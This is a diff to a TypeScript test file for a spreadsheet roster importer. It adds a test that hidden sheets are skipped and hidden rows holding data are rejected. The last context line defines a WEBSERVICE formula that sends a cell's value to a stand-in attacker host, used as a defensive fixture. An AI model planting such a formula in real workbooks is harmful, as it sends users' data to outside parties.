@@ -42,6 +42,26 @@ function workbookWith(parts: Record<string, string | Buffer>): Buffer {
   return zip({ ...(Object.fromEntries(own) as Record<string, Buffer>), ...parts });
 }
 
+test('of hidden sheets none is read, and rows that are hidden are not stored unseen', async () => {
+  const two = { Choices: [['DevOps Automation']], Batch: [['Name'], ['Asha Rao'], ['Ravi Das']] };
+  const files = unzipSync(excelFile(two));
+  const part = (name: string) => Buffer.from(files[name] ?? []).toString();
+  const hidden = {
+    'xl/workbook.xml': part('xl/workbook.xml').replace('sheetId="1"', 'state="hidden" sheetId="1"'),
+  };
+  const kept = Object.fromEntries(
+    Object.entries(files).map(([name, content]) => [name, Buffer.from(content)]),
+  );
+  expect(await readRosterFile(zip({ ...kept, ...hidden }))).toMatchObject({
+    text: 'Name\nAsha Rao\nRavi Das\n',
+    sheet: '',
+  });
+  const filtered = part('xl/worksheets/sheet2.xml').replace('<row r="3">', '<row r="3" hidden="1">');
+  await expect(
+    readRosterFile(zip({ ...kept, ...hidden, 'xl/worksheets/sheet2.xml': filtered })),
+  ).rejects.toThrow('This sheet hides a row that holds something (row 3)');
+});
+
 test('of a formula its last value is read, and a macro is left where it is', async () => {
   const sheet = Buffer.from(PARTS[SHEET] ?? []).toString();
   const formula = '<f>WEBSERVICE("http://evil.example/"&amp;A1)</f>';
